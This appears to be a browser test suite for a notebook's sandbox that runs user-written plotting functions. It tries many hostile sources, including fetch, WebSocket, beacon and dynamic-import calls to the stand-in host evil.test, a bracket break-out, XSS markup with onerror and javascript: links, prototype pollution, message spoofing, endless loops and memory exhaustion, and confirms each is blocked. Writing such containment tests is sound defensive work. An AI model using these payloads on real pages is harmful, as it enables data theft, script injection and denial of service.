import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { explorer, forged, htmlOf, readout, says } from "../support/explorer-output";
import {
  closeTestBrowser,
  type NotebookPage,
  openNotebookPage,
  testBrowser,
} from "../support/notebook-page";
import { shortOf } from "../support/short-of";

const browser = await testBrowser();
if (!browser) console.log("no browser on this machine: hostile explorers are not tried in a page");
afterAll(closeTestBrowser);

/** A page with an explorer for each source, and `beside` after them: it and its library are read once for all. */
function pageOf(sources: readonly string[], beside = ""): () => NotebookPage {
  let opened: NotebookPage;
  beforeAll(async () => {
    opened = await openNotebookPage(sources.map((source) => forged({ source })).join("") + beside);
  }, 60_000);
  afterAll(() => opened.close());
  return () => opened;
}

/** Moves the slider of the page's explorer number `at`. */
const move = ({ page }: NotebookPage, at: number, value: number): Promise<void> =>
  page.getByLabel("均值μ").nth(at).fill(String(value));

/** What the page waits for as long as `usual` milliseconds it waits for 500 from now on. */
const hurry = ({ page }: NotebookPage, usual: number): Promise<void> =>
  page.evaluate((milliseconds) => {
    const wait = window.setTimeout.bind(window) as (call: TimerHandler, time?: number) => number;
    Object.assign(window, {
      setTimeout: (call: TimerHandler, time?: number) =>
        wait(call, time === milliseconds ? 500 : time),
    });
  }, usual);

describe.runIf(browser)("a hostile explorer", () => {
  test("could be seen if it reached out: the test's own control", async () => {
    const { page, requests, close } = await openNotebookPage("<p>…</p>");
    await page.evaluate(() => {
      const script = 'fetch("http://evil.test/f"); import("http://evil.test/m.js").catch(() => 0);';
      new Worker(URL.createObjectURL(new Blob([script])));
    });
    await expect.poll(() => requests.length, { timeout: 5000 }).toBe(2);
    expect(requests.every((url) => url.includes("evil.test"))).toBe(true);
    await close();
  });

  const evil = "http://evil.test";
  const call = (code: string): string =>
    `(klab, v) => { try { ${code} } catch {} return { data: [], layout: { title: { text: "试过了" } } } }`;
  const reaching: Readonly<Record<string, string>> = {
    fetch: call(`fetch("${evil}/fetch")`),
    XMLHttpRequest: call(`const x = new XMLHttpRequest(); x.open("GET", "${evil}/xhr"); x.send()`),
    WebSocket: call('new WebSocket("ws://evil.test/socket")'),
    EventSource: call(`new EventSource("${evil}/events")`),
    importScripts: call(`importScripts("${evil}/a.js")`),
    beacon: call(`navigator.sendBeacon("${evil}/beacon", "x")`),
    "a dynamic import": call(`import("${evil}/m.js")`),
    "an import by eval": call(`(0, eval)('import("${evil}/eval.js")')`),
    "the global by Function": call(`Function("return this")().fetch("${evil}/function")`),
    "the global's prototype": call(
      `Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(globalThis, "${evil}/prototype")`,
    ),
    "a Worker of its own": call(`new Worker("data:text/javascript,fetch('${evil}/worker')")`),
    storage: call('indexedDB.open("x")'),
    "a break out of its brackets": `0); fetch("${evil}/out"); import("${evil}/out.js"); (0`,
    "a rejected promise that fetches": call(`Promise.reject().catch(() => fetch("${evil}/late"))`),
  };

  describe("reaches nothing", () => {
    const opened = pageOf(Object.values(reaching));

    test.each(Object.keys(reaching).map((way, at) => [way, at] as const))(
      "by %s",
      async (way, at) => {
        await move(opened(), at, 1);
        // Broken out of its brackets, it fails before it is called.
        await says(opened().page, reaching[way].startsWith("0)") ? "不能运行" : "试过了", at);
        expect(opened().requests).toEqual([]);
      },
    );

    test("by any of them later on, when all have been tried", async () => {
      await opened().page.waitForTimeout(300);
      expect(opened().requests).toEqual([]);
    });
  });

  test("that never ends is ended, and the explorer beside it works all the while", async () => {
    const { page, close } = await openNotebookPage(
      forged({ source: "(klab, v) => { for (;;); }" }) + htmlOf(explorer),
    );
    await page.getByLabel("均值μ").first().fill("1");
    await page.getByLabel("均值μ").last().fill("1");
    await says(page, "0.5 nat", 1);
    await says(page, "已停止", 0);
    await close();
  }, 40_000);

  describe("that allocates without end", () => {
    const ways = [
      ["buffers", "const a = []; for (;;) a.push(new Float64Array(1e6).fill(1))"],
      ["a list of lists", "const a = []; for (;;) a.push([a.length, 1, 2])"],
      ["lists of a hundred thousand", "const a = []; for (;;) a.push(Array(1e5).fill(1.5))"],
      ["copies of a buffer", "const b = new Uint8Array(1e7), a = []; for (;;) a.push(b.slice())"],
      ["buffers from lists", "const a = []; for (;;) a.push(Float32Array.from({ length: 1e5 }))"],
      ["a Map", "const m = new Map(); for (let i = 0; ; i++) m.set(i, { i })"],
      ["texts", "const a = []; for (;;) a.push('x'.repeat(1e6 + a.length))"],
      ["one buffer", "new ArrayBuffer(2e9)"],
      ["a buffer's own constructor", "const C = new Int8Array(1).constructor; for (;;) new C(1e8)"],
      ["a list that doubles", "let a = [1]; for (;;) a = a.concat(a)"],
    ] as const;
    const opened = pageOf(
      ways.map(([, body]) => `(klab, v) => { ${body} }`),
      htmlOf(explorer),
    );

    // These two take the clock to stop, as what never ends above.
    const named = ways.map(([what], at) => [what, at] as const);
    const few = named.filter(([what]) => what !== "a Map" && what !== "buffers from lists");

    test.each(shortOf(named, few, "allocates without end"))(
      "%s is stopped, and the one beside it works",
      async (_, at) => {
        await move(opened(), at, 1);
        await says(opened().page, "已停止。", at); // by its memory, or by the clock where this machine is slow
        const mean = 1 + (at % 2); // each time another answer: 0.5 or 2 nat
        await move(opened(), ways.length, mean);
        await says(opened().page, `${mean ** 2 / 2} nat`, ways.length);
      },
    );
  });

  test("may allocate as much as figures need, and buffers stay what they are", async () => {
    const source = `(klab, v) => {
      const list = Array.from({ length: 1e6 }, (_, i) => i);
      const view = new Float64Array(new ArrayBuffer(16), 8, 1);
      const ok = [
        view instanceof Float64Array, view.constructor === Float64Array, view.length === 1,
        Float64Array.BYTES_PER_ELEMENT === 8, Uint8Array.of(1, 2).slice(1)[0] === 2,
        new Float32Array([1.5])[0] === 1.5, Float64Array.from([1, 2], (x) => 2 * x)[1] === 4,
        new (class A extends Float64Array {})(3) instanceof Float64Array,
        ArrayBuffer.isView(view), list.slice().concat(list).length === 2e6,
        new Map([[1, 2]]).get(1) === 2, new Uint8Array(new Set([7]))[0] === 7, [3].fill(4)[0] === 4,
        (() => { try { Float64Array(3) } catch { return true } })(),
        klab.kl(new Float64Array(4096).fill(1 / 4096), Array(4096).fill(1 / 4096)) === 0,
      ];
      return { data: [], layout: { title: { text: "不对：" + ok.map((x, i) => x ? "" : i).join("") + "。" } } };
    }`;
    const { page, close } = await openNotebookPage(forged({ source }));
    await page.getByLabel("均值μ").fill("1");
    await says(page, "不对：。");
    await close();
  });

  describe("that returns no figure", () => {
    const ways = [
      [
        "a result of millions of numbers",
        'return { data: [{ type: "scatter", y: Array(3e6).fill(1.5) }], layout: {} }',
        "图太大",
      ],
      [
        "too many traces",
        'return { data: Array(1000).fill({ type: "scatter" }), layout: {} }',
        "没有返回可画的图",
      ],
      [
        "a type of trace that loads tiles",
        'return { data: [{ type: "scattermap" }], layout: {} }',
        "没有返回可画的图",
      ],
      ["no figure", "return 7", "没有返回可画的图"],
      ["an error that is markup", 'throw new Error("<img src=x onerror=pwned()>")', "onerror"],
    ] as const;
    const opened = pageOf(ways.map(([, body]) => `(klab, v) => { ${body} }`));

    test.each(ways.map(([what, , message], at) => [what, message, at] as const))(
      "but %s is told so",
      async (_, message, at) => {
        const { page, requests, errors } = opened();
        await move(opened(), at, 1);
        await says(page, message, at);
        expect(await page.locator("figure img").count()).toBe(0);
        expect([requests, errors]).toEqual([[], []]);
      },
    );

    test("is not asked to load anything later on", async () => {
      const { page, requests, errors } = opened();
      await page.waitForTimeout(200);
      expect(await page.locator("figure img").count()).toBe(0);
      expect([requests, errors]).toEqual([[], []]);
    });
  });

  test("puts no markup, link or picture into the page by its labels", async () => {
    const markup = `<img src='${evil}/i.png'><a href='${evil}'>看</a><script>pwned=1</script><b>粗</b>`;
    const source = `(klab, v) => ({ data: [{ type: "scatter", name: ${JSON.stringify(markup)}, x: [1, 2], y: [1, 2] }], layout: { title: { text: ${JSON.stringify(markup)} }, images: [{ source: "${evil}/j.png" }], annotations: [{ text: ${JSON.stringify(markup)} }] } })`;
    const { page, requests, close } = await openNotebookPage(forged({ source }));
    await page.getByLabel("均值μ").fill("1");
    await says(page, "粗");
    expect(await page.locator("figure a:not(.modebar-btn), figure img, figure image").count()).toBe(
      0,
    );
    expect(await page.evaluate(() => "pwned" in globalThis)).toBe(false);
    expect(requests).toEqual([]);
    await close();
  });

  test("pollutes no prototype", async () => {
    const json =
      '{"type":"scatter","y":[1],"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}';
    const source = `(klab, v) => { Object.prototype.polluted = 1; return { data: [JSON.parse('${json}')], layout: JSON.parse('{"title":{"text":"完"},"__proto__":{"polluted":1}}') } }`;
    const { page, close } = await openNotebookPage(forged({ source }));
    await page.getByLabel("均值μ").fill("1");
    await says(page, "完");
    expect(await page.evaluate(() => "polluted" in {})).toBe(false);
    await close();
  });

  test("with markup for labels, names and choices shows it as text", async () => {
    const label = "<img src=x onerror=pwned=1>";
    const controls = {
      [label]: { kind: "slider", low: 0, high: 1, value: 0, step: 0.1, label },
      s: { kind: "select", choices: [label], value: label },
    };
    const { page, requests, close } = await openNotebookPage(forged({ controls }));
    await page.locator("label").first().waitFor();
    expect(await page.locator("label").first().textContent()).toBe(label);
    expect(await page.locator("figure img").count()).toBe(0);
    expect(requests).toEqual([]);
    await close();
  });

  test("finds no name in its Worker but the language's own and klab", async () => {
    const names =
      `fetch XMLHttpRequest WebSocket WebSocketStream WebTransport EventSource importScripts Worker SharedWorker
      postMessage addEventListener onmessage MessageChannel BroadcastChannel indexedDB caches storage cookieStore navigator
      location origin crypto performance setTimeout setInterval queueMicrotask requestAnimationFrame structuredClone close
      Blob URL File FileReader Request Response FontFace fonts OffscreenCanvas createImageBitmap Notification console
      RTCDataChannel RTCPeerConnection Atomics SharedArrayBuffer reportError scheduler trustedTypes name`.split(
        /\s+/,
      );
    const source = `(klab, v) => ({ data: [], layout: { title: { text: "有：" + ${JSON.stringify(names)}.filter((name) => globalThis[name] !== undefined || self[name] !== undefined).join() + "。" } } })`;
    const { page, close } = await openNotebookPage(forged({ source }));
    await page.getByLabel("均值μ").fill("1");
    await says(page, "有：。");
    await close();
  });

  test("makes no code of text", async () => {
    const tries = ["(0, eval)('1')", "Function('return 1')()", "(async () => 1).constructor('1')"];
    const source = `(klab, v) => { const done = []; ${tries.map((code, i) => `try { ${code}; done.push(${i}); } catch {}`).join(" ")} return { data: [], layout: { title: { text: "做成：" + done.join() + "。" } } } }`;
    const { page, close } = await openNotebookPage(forged({ source }));
    await page.getByLabel("均值μ").fill("1");
    await says(page, "做成：。");
    await close();
  });

  /** A figure that Plotly would be busy with for long, or forever. */
  const heavy: Record<string, readonly [data: string, layout: string]> = {
    "ticks a billionth apart": [
      "[{ y: [0, 1] }]",
      "{ xaxis: { dtick: 1e-9 }, yaxis: { tickmode: 'linear', tick0: 0, dtick: 1e-300 } }",
    ],
    "numbers padded to millions of characters": [
      "[{ y: [0, 1], mode: 'markers+text', text: ['a', 'b'], texttemplate: '%{y:>99999999}' }]",
      "{ xaxis: { tickformat: '>99999999' }, yaxis: { tickformatstops: [{ dtickrange: [null, null], value: '099999999d' }] } }",
    ],
    "thousands of words": [
      "[{ mode: 'text', y: Array(9000).fill(1), text: Array(9000).fill('字') }]",
      "{}",
    ],
    "thousands of slices": ["[{ type: 'pie', values: Array(1900).fill(1) }]", "{}"],
    "thousands of lines of notes": [
      "[]",
      "{ annotations: Array(100).fill({ text: 'a<br>'.repeat(700), x: 0, y: 0 }) }",
    ],
    "bins a billionth wide": [
      "[{ type: 'histogram', x: [0, 1], xbins: { start: 0, end: 1, size: 1e-9 } }]",
      "{}",
    ],
    "contours a billionth apart": [
      "[{ type: 'contour', z: [[0, 1], [1, 0]], autocontour: false, contours: { start: 0, end: 1, size: 1e-9 } }]",
      "{}",
    ],
    "stacks of stacks": [
      "Array.from({ length: 50 }, (_, k) => ({ mode: 'lines', stackgroup: 'a', x: Array.from({ length: 900 }, (_, i) => i + k / 50), y: Array(900).fill(1) }))",
      "{}",
    ],
    "points packed in base64": [
      "[{ mode: 'markers', y: { dtype: 'u1', bdata: 'A'.repeat(1e6) } }]",
      "{}",
    ],
    "a picture of a metre": [
      "[{ type: 'heatmap', zsmooth: 'best', z: [[0, 1], [1, 0]] }]",
      "{ width: 40000, height: 40000 }",
    ],
    "thousands of rows and columns": ["[{ y: [0, 1] }]", "{ grid: { rows: 1e9, columns: 1e9 } }"],
    "every day of ten thousand years": [
      "[{ x: ['0001-01-01', '9999-12-31'], y: [0, 1] }]",
      "{ xaxis: { rangebreaks: [{ pattern: 'hour', bounds: [1, 2] }] } }",
    ],
    "the largest and the smallest numbers": [
      "[{ x: [-1.7e308, 1.7e308], y: [5e-324, 1e-323] }]",
      "{ font: { size: 1e9 }, margin: { l: 1e9, b: 1e9 } }",
    ],
    "values of every wrong kind": [
      "[{ type: 'scatter', y: 7, marker: [], hasOwnProperty: 1, toString: 2 }]",
      "{ xaxis: 5, yaxis: 'a', annotations: { a: 1 }, shapes: 'x', legend: [1], font: 3, title: [] }",
    ],
  };

  describe("with a figure that is much to draw", () => {
    const opened = pageOf(
      Object.values(heavy).map(
        ([data, layout]) =>
          `(klab, v) => v.mu === 2 ? { data: [], layout: { title: { text: "下一幅" } } } : { data: ${data}, layout: { title: { text: "画了" }, ...${layout} } }`,
      ),
    );

    test.each(Object.keys(heavy).map((what, at) => [what, at] as const))(
      "%s: does not hold up the page, and draws the next figure",
      async (_, at) => {
        const { page, errors, requests } = opened();
        await move(opened(), at, 1);
        await expect
          .poll(() => page.locator(readout).nth(at).textContent(), { timeout: 15_000 })
          .toMatch(/画了|没有返回可画的图|无法绘制/);
        await move(opened(), at, 2);
        await says(page, "下一幅", at);
        expect(errors).toEqual([]);
        expect(requests).toEqual([]);
      },
    );
  });

  test("makes no link of a tag that hides in a tag", async () => {
    const texts = [
      `<<a>a href="${evil}">看</a>`,
      `<<b>a href="javascript:pwned=1">看</a>`,
      `<a\nhref="${evil}">看</a>`,
      `&lt;a href="${evil}"&gt;看&lt;/a&gt;`,
      `<A HREF='${evil}'>看`,
    ];
    const source = `(klab, v) => ({ data: [{ x: ${JSON.stringify(texts)}, y: [1, 2, 3, 4, 5], type: "bar", text: ${JSON.stringify(texts)} }], layout: { title: { text: "看" }, annotations: ${JSON.stringify(texts)}.map((text, i) => ({ text, x: i, y: i })) } })`;
    const { page, close } = await openNotebookPage(forged({ source }));
    await page.getByLabel("均值μ").fill("1");
    await says(page, "看");
    expect(await page.locator("[data-klab-plot] svg a").count()).toBe(0);
    await close();
  });

  test("puts its words and numbers around the figure as text, and no table that is none", async () => {
    const markup = "<img src=x onerror=pwned=1>";
    const source = `(klab, v) => ({ data: [], layout: { title: { text: "μ " + v.mu } }, alt: "${markup}", table: v.mu === 1 ? { columns: ["${markup}", "b"], rows: [["${markup}", 1 / 3]] } : { columns: ["a"], rows: [["x", {}], 7] } })`;
    const { page, requests, close } = await openNotebookPage(forged({ source }));
    await page.getByLabel("均值μ").fill("1");
    await says(page, "μ 1");
    const figure = page.locator("figure");
    expect(await figure.locator("img").count()).toBe(0);
    expect(await figure.locator("[data-klab-plot]").getAttribute("aria-label")).toBe(markup);
    expect(await figure.locator("th, td").allTextContents()).toEqual([
      markup,
      "b",
      markup,
      "0.333333",
    ]);
    await page.getByLabel("均值μ").fill("2");
    await says(page, "μ 2");
    expect(await figure.locator("td").allTextContents()).toEqual([markup, "0.333333"]);
    expect(requests).toEqual([]);
    await close();
  });

  test("is not answered for by the page, another frame or nobody", async () => {
    const opened = await openNotebookPage(
      `${forged({ source: "(klab, v) => { for (;;); }" })}<iframe srcdoc="<p>…</p>"></iframe>`,
    );
    const { page, close } = opened;
    await hurry(opened, 4_000); // the time that a function may take
    await page.getByLabel("均值μ").waitFor();
    const text = JSON.stringify({ id: 1, data: [], layout: { title: { text: "冒充" } } });
    const spoof = (): Promise<void> =>
      page.evaluate((forgedText) => {
        for (const id of [0, 1, 2]) {
          const message = { klab: "result", text: forgedText.replace(":1", `:${id}`) };
          const own = document.querySelector("iframe[srcdoc='<p>…</p>']") as HTMLIFrameElement;
          const script = own.contentDocument!.createElement("script");
          script.textContent = `parent.postMessage(${JSON.stringify(message)}, "*")`;
          own.contentDocument!.body.append(script);
          postMessage(message, "*");
          dispatchEvent(new MessageEvent("message", { data: message }));
        }
      }, text);
    await spoof();
    await page.getByLabel("均值μ").fill("1");
    await page.locator("figure iframe").waitFor({ state: "attached" });
    await spoof();
    await says(page, "已停止");
    expect(await page.locator(".gtitle").textContent()).not.toContain("冒充");
    await close();
  }, 60_000);

  test("busy behind its answer is ended when it is left alone, and starts anew when it is wanted", async () => {
    const source = `(klab, v) => { const again = () => Promise.resolve().then(again); if (v.mu === 1) again(); return { data: [], layout: { title: { text: "μ " + v.mu } } } }`;
    const opened = await openNotebookPage(forged({ source }));
    const { page, close } = opened;
    await hurry(opened, 20_000); // how long a Worker that nobody asks is kept
    await page.getByLabel("均值μ").fill("1");
    await says(page, "μ 1");
    expect(page.workers().length).toBe(1);
    await expect.poll(() => page.workers().length, { timeout: 40_000 }).toBe(0);
    await page.getByLabel("均值μ").fill("2");
    await says(page, "μ 2");
    await close();
  }, 90_000);
});
